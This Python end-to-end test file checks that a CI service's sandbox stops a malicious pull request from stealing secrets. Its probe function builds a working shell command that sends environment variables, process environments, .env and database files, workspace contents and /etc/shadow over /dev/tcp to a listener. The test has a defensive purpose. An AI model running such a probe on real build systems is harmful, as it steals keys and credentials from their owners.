"""An attacker's pull request, end to end: a build job and a deploy step that hunt for the
app's keys and every secret they can find, and send them to a listener.

Run once sandboxed, where the listener must get nothing but what the job was given, and
once with GREENLIGHT_SANDBOX=none, where the same probe finds the keys: the test that the
probe itself works.
"""

from __future__ import annotations

import textwrap
from collections.abc import AsyncIterator
from pathlib import Path

from tests.e2e.conftest import Greenlight, start_greenlight
from tests.fakes.github import FakeGitHub
from tests.helpers import WEBHOOK_SECRET, Listener, wait_until
from tests.services import require_sandbox

REPO = "octo/hello"
ASKED = "asked-for-secret-value-1"
NOT_ASKED = "not-asked-secret-value-2"
OTHER_REPO = "other-repository-secret-3"


def probe(canary: str, port: int, paths: list[Path]) -> str:
    """A step that sends everything it can read of Greenlight to 127.0.0.1:`port`."""
    files = " ".join(str(path) for path in paths)
    return (
        f"set +e; exec 3<>/dev/tcp/127.0.0.1/{port}; {{ echo {canary}; env; "
        "for f in /proc/[0-9]*/environ; do tr '\\\\0' '\\\\n' < $f; done; "
        "for d in /proc/[0-9]*/cwd; do cat $d/.env $d/*.yml $d/*.db; done; "
        f"for p in {files}; do find $p -type f -exec cat {{}} +; done; "
        "cat /etc/shadow; } >&3 2>/dev/null; exec 3>&-; true"
    )


async def attacked(
    fake_github: FakeGitHub, tmp_path: Path, listener: Listener, sandbox: str
) -> AsyncIterator[Greenlight]:
    key = fake_github.private_key_pem
    pem = key.decode() if isinstance(key, bytes) else key
    (tmp_path / ".env").write_text(
        f"GITHUB_WEBHOOK_SECRET={WEBHOOK_SECRET}\nGITHUB_PRIVATE_KEY_BODY={pem.splitlines()[1]}\n"
    )
    secrets = tmp_path / "secrets.yml"
    secrets.write_text(
        f"{REPO}:\n  ASKED: {ASKED}\n  NOT_ASKED: {NOT_ASKED}\nocto/other:\n  TOKEN: {OTHER_REPO}\n"
    )
    server = await start_greenlight(
        fake_github,
        tmp_path,
        GREENLIGHT_SANDBOX=sandbox,
        GREENLIGHT_SANDBOX_NETWORK="host",  # so the probe can reach the test's listener
        GREENLIGHT_SECRETS_FILE=str(secrets),
    )
    try:
        yield Greenlight(fake_github, server, tmp_path)
    finally:
        await fake_github.settle()
        await server.close()


def attack_config(greenlight: Greenlight, port: int) -> dict[str, str]:
    settings = greenlight.context.settings
    paths = [
        greenlight.tmp_path,
        settings.work_dir.absolute(),
        greenlight.services.pipeline.sandbox.workspaces(settings.work_dir),
    ]
    job, deploy = probe("JOB-CANARY", port, paths), probe("DEPLOY-CANARY", port, paths)
    text = textwrap.dedent(f"""
        mode: delivery
        jobs:
          build:
            secrets: [ASKED]
            run: "{job}"
        deploy:
          environments:
            staging:
              secrets: [ASKED]
              run: "{deploy}"
            production:
              run: "true"
    """).lstrip("\n")
    return {".github/greenlight.yml": text}


async def run_the_attack(greenlight: Greenlight, listener: Listener) -> bytes:
    fake = greenlight.fake
    fake.create_repo(REPO, {"README.md": "hi\n"})
    sha = await fake.push(REPO, "main", attack_config(greenlight, listener.port))
    run = await greenlight.run_for(REPO, sha, deadline=60)
    assert run.conclusion == "success"
    await wait_until(
        lambda: b"DEPLOY-CANARY" in listener.received,
        deadline=60,
        message="the deploy step's probe to report",
    )
    await wait_until(lambda: listener.connections >= 2, message="both probes to finish")
    return bytes(listener.received)


async def test_a_sandboxed_probe_finds_nothing_of_greenlight(
    fake_github: FakeGitHub, tmp_path: Path, listener: Listener
) -> None:
    require_sandbox()
    async for greenlight in attacked(fake_github, tmp_path, listener, "bwrap"):
        received = await run_the_attack(greenlight, listener)
    key = fake_github.private_key_pem
    pem = key.decode() if isinstance(key, bytes) else key
    assert b"JOB-CANARY" in received
    assert ASKED.encode() in received  # the job asked for it: its own to use
    for secret in (NOT_ASKED, OTHER_REPO, WEBHOOK_SECRET, pem.splitlines()[1], "root:"):
        assert secret.encode() not in received, secret


async def test_the_same_probe_unsandboxed_finds_the_keys(
    fake_github: FakeGitHub, tmp_path: Path, listener: Listener
) -> None:
    async for greenlight in attacked(fake_github, tmp_path, listener, "none"):
        received = await run_the_attack(greenlight, listener)
    assert NOT_ASKED.encode() in received
    assert OTHER_REPO.encode() in received
    assert WEBHOOK_SECRET.encode() in received
